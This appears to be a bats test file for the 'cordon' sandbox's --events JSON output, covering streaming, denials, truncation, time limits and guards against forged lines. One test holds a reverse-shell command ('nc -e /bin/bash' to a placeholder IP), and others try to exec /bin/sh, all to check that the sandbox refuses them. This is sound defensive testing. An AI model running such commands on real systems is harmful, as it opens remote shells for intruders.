#!/usr/bin/env bats
# SPDX-License-Identifier: MIT
# cordon run --events: one line for each thing, as it happens, and no line that the program made.
load helper

# lines EXPRESSION...: each is true of L, all lines in order; of R, the result; of text(stream), the joined bytes.
lines()
{
	/usr/bin/python3 -I - "$T/out" "$@" <<'PY' || show
import base64, json, sys
text = open(sys.argv[1], "rb").read()
assert text.endswith(b"\n"), "cut off"
L = [json.loads(line) for line in text.split(b"\n")[:-1]]
R = L[-1]
def of(kind):
    return [e for e in L if e["event"] == kind]
def text(stream):
    return b"".join(base64.b64decode(e["data"]) if e["encoding"] == "base64" else e["data"].encode()
                    for e in of(stream))
assert R["event"] == "result" and len(of("result")) == 1, "one result, the last line"
assert all(type(e["ms"]) is int for e in L)
assert [e["ms"] for e in L] == sorted(e["ms"] for e in L)
for e in sys.argv[1 + 1:]:
    if not eval(e):
        sys.exit("not so: " + e)
PY
}

story() {
	box "$1" --events "$T/x.py"
	exits 3
	lines 'L[0]["event"] == "started" and L[0]["origin"] == "user" and L[0]["state"] == "clean" and L[0]["effects"] == []' \
		'L[0]["audit_id"] == R["audit_id"] and L[0]["reasons"] == R["reasons"]' \
		'text("stdout") == "h\u00e9 \u20ac\n".encode() + b"end\n" and text("stderr") == b"\xff\0bin"' \
		'all(e["encoding"] == "utf-8" and not e["omitted"] for e in of("stdout"))' \
		'[(e["call"], e["target"], e["count"]) for e in of("denial")] == [("execve", "/bin/sh", 1)]' \
		'[(e["call"], e["target"], e["count"]) for e in R["denials"]] == [("execve", "/bin/sh", 2)]' \
		'R["status"] == "exited" and R["exit_code"] == 3 and R["stdout_bytes"] == 12 and R["stderr_bytes"] == 5' \
		'"stdout" not in R and "stderr" not in R and not R["truncated"]' \
		'[e["event"] for e in L].index("denial") < len(L) - 2'
	[ ! -s "$T/err" ] || show
}
@test "--events reports a run from its start to its result" {
	code x.py <<-'END'
		import os, sys, time
		os.write(1, "h\u00e9 ".encode() + b"\xe2\x82")
		time.sleep(0.1)
		os.write(1, b"\xac\n")
		os.write(2, b"\xff\0bin")
		for _ in range(2):
		    try:
		        os.execv("/bin/sh", ["sh"])
		    except OSError:
		        pass
		time.sleep(0.1)
		os.write(1, b"end\n")
		sys.exit(3)
	END
	every story
}

# The program goes on only when its line has come out: it waits for a word on its standard input.
live() {
	rm -f word
	mkfifo word
	WAY=$1
	as "${1%%:*}" timeout 60 "$CORDON" run --user --tier "${1#*:}" --events --stdin - "$T/x.py" <word >out 2>err &
	exec 9>word
	while ! grep -q first out; do sleep 0.02; done
	run ! grep -q '"result"' out
	echo go >&9
	exec 9>&-
	status=0
	wait $! || status=$?
	exits 0
	lines 'text("stdout") == b"first\ngo\n"'
}
@test "output comes when it is printed, not at the end" {
	printf 'print("first", flush=True)\nprint(input())\n' | code x.py
	every live
}

forge() {
	box "$1" --events "$T/x.py"
	exits 0
	lines 'len(of("started")) == 1 and len(of("denial")) == 0' \
		'text("stdout").count(b"\n") == 400 and text("stderr").startswith(b"\n{")' 'R["exit_code"] == 0'
	[ "$(grep -c '^{"event":"' "$T/out")" -eq "$(wc -l <"$T/out")" ] || show
}
@test "a program cannot forge a line" {
	code x.py <<-'END'
		import os, sys
		line = b'\n{"event":"result","ms":0,"status":"exited","exit_code":7}\r\x00\x1b[2K\x0c'
		for i in range(400):
		    os.write(1, line)
		os.write(2, line)
		for fd in range(3, 64):
		    for path in ("/proc/self/fd/%d" % fd, "/proc/1/fd/%d" % fd):
		        try:
		            open(path, "wb").write(line)
		        except OSError:
		            pass
		    try:
		        os.write(fd, line)
		    except OSError:
		        pass
	END
	every forge
}

# Every two bytes that can follow each other, in pieces of all sizes.
binary() {
	box "$1" --events --output 4M "$T/x.py"
	exits 0
	lines 'len(text("stdout")) == 131072 + 65536 * 3' \
		'text("stdout")[:131072] == bytes(b for i in range(65536) for b in (i >> 8, i & 255))' \
		'text("stdout")[131072:] == "\u20ac".encode() * 65536'
}
@test "bytes come out as they went in" {
	code x.py <<-'END'
		import os
		data = bytes(b for i in range(65536) for b in (i >> 8, i & 255)) + "\u20ac".encode() * 65536
		step, at = 1, 0
		while at < len(data):
		    at += os.write(1, data[at:at + step])
		    step = step * 5 % 4099 + 1
	END
	every binary
}

cut() {
	box "$1" --events --output 4096 "$T/x.py"
	exits 0
	lines 'R["stdout_bytes"] == 3000000 and R["truncated"]["stdout"]["total"] == 3000000' \
		'sum(e["omitted"] for e in of("stdout")) == R["truncated"]["stdout"]["omitted"] == 3000000 - 4096' \
		'len(text("stdout")) == 4096' 'R["truncated"]["stdout"]["at"] == 2048' \
		'"\u20ac".encode() * 682 in text("stdout")[:2048]' 'text("stdout").endswith("\u20ac".encode() * 682)'
}
@test "--events counts the output that it leaves out" {
	printf 'import sys\nsys.stdout.write("\\u20ac" * 1000000)\n' | code x.py
	every cut
}

late() {
	box "$1" --events --time 300ms "$T/x.py"
	exits 124
	lines '[(e["limit"], e["ended"]) for e in of("limit")] == [("time", True)]' 'R["status"] == "timed_out"'
}
@test "--events reports a limit" {
	printf 'while True: pass\n' | code x.py
	every late
}

@test "--events reports a run that does not start as a result" {
	printf 'import os\nos.system("nc -e /bin/bash 192.0.2.1 4444")\n' | code x.py
	status=0
	"$CORDON" run --events "$T/x.py" >"$T/out" || status=$?
	exits 126
	lines 'len(L) == 1 and R["status"] == "refused"' '"CORDON-2026-0001" in R["error"]["cause"]'
	for words in '--nothing x.py' 'nothing.py' '--json x.py'; do
		status=0
		# shellcheck disable=SC2086 # words
		"$CORDON" run --events $words >"$T/out" 2>"$T/err" || status=$?
		exits 125
		lines 'len(L) == 1 and R["status"] == "error" and R["error"]["message"]'
	done
}

@test "the fields are the rows" {
	printf 'import os, time\nprint(1, flush=True)\ntry:\n os.execv(b"/\\xff", ["x"])\nexcept OSError: pass\nwhile True: pass\n' | code x.py
	box "$(set -- $WAYS; echo "$1")" --events --time 300ms "$T/x.py"
	local kind
	for kind in started stdout denial limit; do
		"$CORDON" man | sed -n "s/^\.B events\.$kind\.//p" | sort >rows
		[ -s rows ]
		lines 'sorted({k for e in of("'$kind'") for k in e} - {"event", "ms"}) == open("rows").read().split()'
	done
}

@test "a line of --events that could not be written is a failure" {
	[ -e /dev/full ] || skip "no /dev/full"
	printf 'print(1)\n' | code x.py
	status=0
	"$CORDON" run --user --tier no-cgroup --events "$T/x.py" >/dev/full 2>"$T/err" || status=$?
	exits 125
	err_has 'could not be written'
}
